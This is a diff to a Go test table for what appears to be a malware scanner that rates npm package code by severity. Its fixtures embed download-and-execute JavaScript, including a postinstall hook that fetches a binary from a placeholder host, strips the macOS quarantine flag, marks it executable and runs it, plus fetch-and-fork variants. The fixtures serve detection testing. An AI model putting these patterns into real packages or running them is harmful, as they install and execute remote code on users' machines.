@@ -22,6 +22,10 @@ func TestDownloadExecute(t *testing.T) {
 		{"strips_quarantine_at_install", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node i.js"}}`,
 			"i.js": `const fs=require("fs"),https=require("https"),{execSync}=require("child_process"); https.get("https://x.example.invalid/bin/helper", r => { const o = fs.createWriteStream("/tmp/.h"); r.pipe(o); o.on("finish", () => { execSync("xattr -d com.apple.quarantine /tmp/.h"); execSync("chmod +x /tmp/.h"); execSync("/tmp/.h") }) })`}, finding.SeverityCritical},
 		{"strips_quarantine_trusted", map[string]string{"index.js": `const fs=require("fs"),https=require("https"),{execSync}=require("child_process"); https.get("https://github.com/o/r/releases/download/v1/tool-darwin.tar.gz", r => r.pipe(fs.createWriteStream(p))); execSync("xattr -cr " + app); execSync(app)`}, finding.SeverityLow},
+		// a test runner forking its workers, with a docs link in a
+		// warning; the same host given to a request is a download
+		{"docs_link_in_message", map[string]string{"index.js": `const fs=require("fs"),os=require("os"),cp=require("child_process"); const r = await fetch(reportUrl); fs.writeFileSync(out, await r.text()); warn("Consider running slow files in parallel. See: https://docs.example.invalid/test-parallel"); cp.fork(entry, {detached: false, stdio: "ignore", cwd: os.tmpdir()})`}, finding.SeverityLow},
+		{"docs_host_requested", map[string]string{"index.js": `const fs=require("fs"),os=require("os"),cp=require("child_process"); const r = await fetch("https://docs.example.invalid/tool"); fs.writeFileSync(out, await r.text()); warn("See: https://docs.example.invalid/tool"); cp.fork(entry, {detached: true, stdio: "ignore", cwd: os.tmpdir()})`}, finding.SeverityHigh},
 		{"raw_ip_temp_exe", map[string]string{"postinstall.js": dropper}, finding.SeverityCritical},
 		// a native module named by the constant end of a template URL
 		{"template_node_module", map[string]string{"index.js": "const fs=require(\"fs\"),os=require(\"os\"),https=require(\"https\"); const dest = require(\"path\").join(os.tmpdir(), \"x.node\");\n" +
